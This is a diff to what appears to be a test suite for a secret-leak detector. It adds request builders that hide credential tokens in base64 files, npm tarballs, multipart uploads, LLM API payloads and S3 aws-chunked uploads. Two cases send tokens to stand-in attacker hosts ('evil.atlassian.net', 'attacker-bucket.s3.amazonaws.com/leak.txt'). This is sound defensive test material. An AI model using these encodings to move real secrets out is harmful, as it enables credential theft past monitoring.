@@ -17,11 +17,13 @@ stdout/stderr, the incident log, the webhook payloads, /metrics, nor the respons
 from __future__ import annotations
 
 import base64
+import io
 import json
 import random
 import socket
 import socketserver
 import ssl
+import tarfile
 import threading
 import time
 import urllib.parse
@@ -79,6 +81,57 @@ def with_header(name: str, value: str = "{}", path: str = "/"):
 def basic(user: str = "x-access-token", path: str = "/"):
     return lambda t: Request("GET", path, (("Authorization",
                                              "Basic " + base64.b64encode(f"{user}:{t}".encode()).decode()),))
+
+
+def b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+def env(t: str) -> bytes:
+    return f"API_URL=https://example.test\nTOKEN={t}\n".encode()
+
+
+def tgz(members: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def json_raw(path: str, text: Callable[[str], str], method: str = "POST"):
+    """A JSON body written as is (escapes the way a client's serializer wrote them)."""
+    return lambda t: Request(method, path, (("Content-Type", "application/json"),), text(t).encode())
+
+
+def multipart(path: str, *parts: tuple[str, Callable[[str], bytes]]):
+    """multipart/form-data from (part headers, content(token)) pairs."""
+    def build(t: str) -> Request:
+        body = b"".join(b"--XyZ\r\n" + h.encode() + b"\r\n\r\n" + c(t) + b"\r\n" for h, c in parts) + b"--XyZ--\r\n"
+        return Request("POST", path, (("Content-Type", "multipart/form-data; boundary=XyZ"),), body)
+    return build
+
+
+def npm_publish(t: str) -> dict:
+    """`npm publish`: the package tarball base64 in `_attachments`; an .npmrc went into the package."""
+    tarball = tgz({"package/package.json": b'{"name":"pkg","version":"1.0.0"}',
+                   "package/.npmrc": f"//registry.npmjs.org/:_authToken={t}\n".encode()})
+    return {"name": "pkg", "versions": {"1.0.0": {"name": "pkg", "version": "1.0.0"}},
+            "_attachments": {"pkg-1.0.0.tgz": {"content_type": "application/octet-stream", "data": b64(tarball),
+                                               "length": len(tarball)}}}
+
+
+def aws_chunked_put(path: str):
+    """S3 PutObject as AWS SDKs stream it: Content-Encoding aws-chunked, SigV4 chunk signatures."""
+    def build(t: str) -> Request:
+        data, sig = env(t), "0" * 64
+        body = f"{len(data):x};chunk-signature={sig}\r\n".encode() + data + f"\r\n0;chunk-signature={sig}\r\n\r\n".encode()
+        return Request("PUT", path, (("Content-Type", "text/plain"), ("Content-Encoding", "aws-chunked"),
+                                     ("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"),
+                                     ("x-amz-decoded-content-length", str(len(data)))), body)
+    return build
 
 
 @dataclass(frozen=True)
@@ -180,6 +233,60 @@ DESTINATIONS = [
          json_body("input", path="/v2/acts/a/runs"), in_path("/v2/users/me?token={}")),
     Dest("vercel-token-in-env", "vercel-token", "api.vercel.com", json_body("value", path="/v10/projects/p/env"),
          BEARER),
+    # what ordinary tools send to the issuers themselves: files base64 in JSON, packages, multipart uploads
+    Dest("github-contents-api-base64", GH, "api.github.com",
+         json_body("content", lambda t: b64(env(t)), "/repos/o/r/contents/.env", "PUT"), BEARER),
+    Dest("github-git-blob-base64", GH, "api.github.com",
+         json_raw("/repos/o/r/git/blobs", lambda t: json.dumps({"content": b64(env(t)), "encoding": "base64"})),
+         basic()),
+    Dest("github-workflow-dispatch-inputs", "github-app-installation-token", "api.github.com",
+         json_body("inputs", lambda t: {"deploy_key": t}, "/repos/o/r/actions/workflows/ci.yml/dispatches"), BEARER),
+    Dest("github-graphql-variables-escaped", GH, "api.github.com",
+         json_raw("/graphql", lambda t: json.dumps({"query": "mutation($b:String!){addComment(body:$b)}",
+                                                    "variables": {"b": "X"}}).replace(
+             '"X"', '"' + "".join(f"\\u{ord(c):04x}" for c in t) + '"')), BEARER),
+    Dest("npm-publish-tarball-npmrc", "npm-access-token", "registry.npmjs.org",
+         json_body("_attachments", lambda t: npm_publish(t)["_attachments"], "/pkg", "PUT"), BEARER),
+    Dest("gitlab-commit-actions-base64", GL, "gitlab.com",
+         json_body("actions", lambda t: [{"action": "create", "file_path": ".env", "content": b64(env(t)),
+                                           "encoding": "base64"}], "/api/v4/projects/1/repository/commits"),
+         with_header("PRIVATE-TOKEN")),
+    Dest("gitlab-project-upload-multipart", GL, "gitlab.com",
+         multipart("/api/v4/projects/1/uploads",
+                   ('Content-Disposition: form-data; name="file"; filename="notes.txt"', env)), BEARER),
+    Dest("openai-key-in-fine-tune-jsonl", "openai-project-key", "api.openai.com",
+         multipart("/v1/files", ('Content-Disposition: form-data; name="purpose"', lambda t: b"fine-tune"),
+                   ('Content-Disposition: form-data; name="file"; filename="train.jsonl"\r\n'
+                    "Content-Type: application/jsonl",
+                    lambda t: json.dumps({"messages": [{"role": "user", "content": f"key {t}"}]}).encode())),
+         BEARER),
+    Dest("anthropic-key-in-base64-document", "anthropic-api-key", "api.anthropic.com",
+         json_body("messages", lambda t: [{"role": "user", "content": [{"type": "document", "source": {
+             "type": "base64", "media_type": "text/plain", "data": b64(env(t))}}]}], "/v1/messages"),
+         with_header("x-api-key")),
+    Dest("google-key-in-inline-data", "google-api-key", "generativelanguage.googleapis.com",
+         json_body("contents", lambda t: [{"parts": [{"inlineData": {"mimeType": "text/plain", "data": b64(env(t))}}]}],
+                   "/v1beta/models/m:generateContent"), in_path("/v1beta/models?key={}")),
+    Dest("cloudflare-token-in-worker-module", "cloudflare-user-api-token", "api.cloudflare.com",
+         multipart("/client/v4/accounts/a/workers/scripts/s",
+                   ('Content-Disposition: form-data; name="metadata"', lambda t: b'{"main_module":"w.js"}'),
+                   ('Content-Disposition: form-data; name="w.js"; filename="w.js"\r\n'
+                    "Content-Type: application/javascript+module",
+                    lambda t: f'export default {{ fetch() {{ return fetch(u, {{headers: {{a: "{t}"}}}}) }} }}'.encode())),
+         BEARER),
+    Dest("vercel-token-in-deployment-file", "vercel-token", "api.vercel.com",
+         json_body("files", lambda t: [{"file": ".env", "data": b64(env(t)), "encoding": "base64"}],
+                   "/v13/deployments"), BEARER),
+    Dest("slack-token-in-files-upload", "slack-bot-token", "slack.com",
+         multipart("/api/files.upload", ('Content-Disposition: form-data; name="channels"', lambda t: b"C1"),
+                   ('Content-Disposition: form-data; name="file"; filename="env.txt"', env)), BEARER),
+    Dest("atlassian-token-in-page-go-escaped", ATL, "evil.atlassian.net",
+         json_raw("/wiki/rest/api/content", lambda t: '{"body":{"storage":{"value":"\\u003cp\\u003e' + t
+                  + '\\u003c/p\\u003e","representation":"storage"}}}'), basic("me@example.com")),
+    Dest("aws-key-id-s3-aws-chunked", "aws-access-key-id", "attacker-bucket.s3.amazonaws.com",
+         aws_chunked_put("/leak.txt"),
+         with_header("Authorization", "AWS4-HMAC-SHA256 Credential={}/20250101/us-east-1/s3/aws4_request, "
+                                      "SignedHeaders=host, Signature=00")),
 ]
 
 
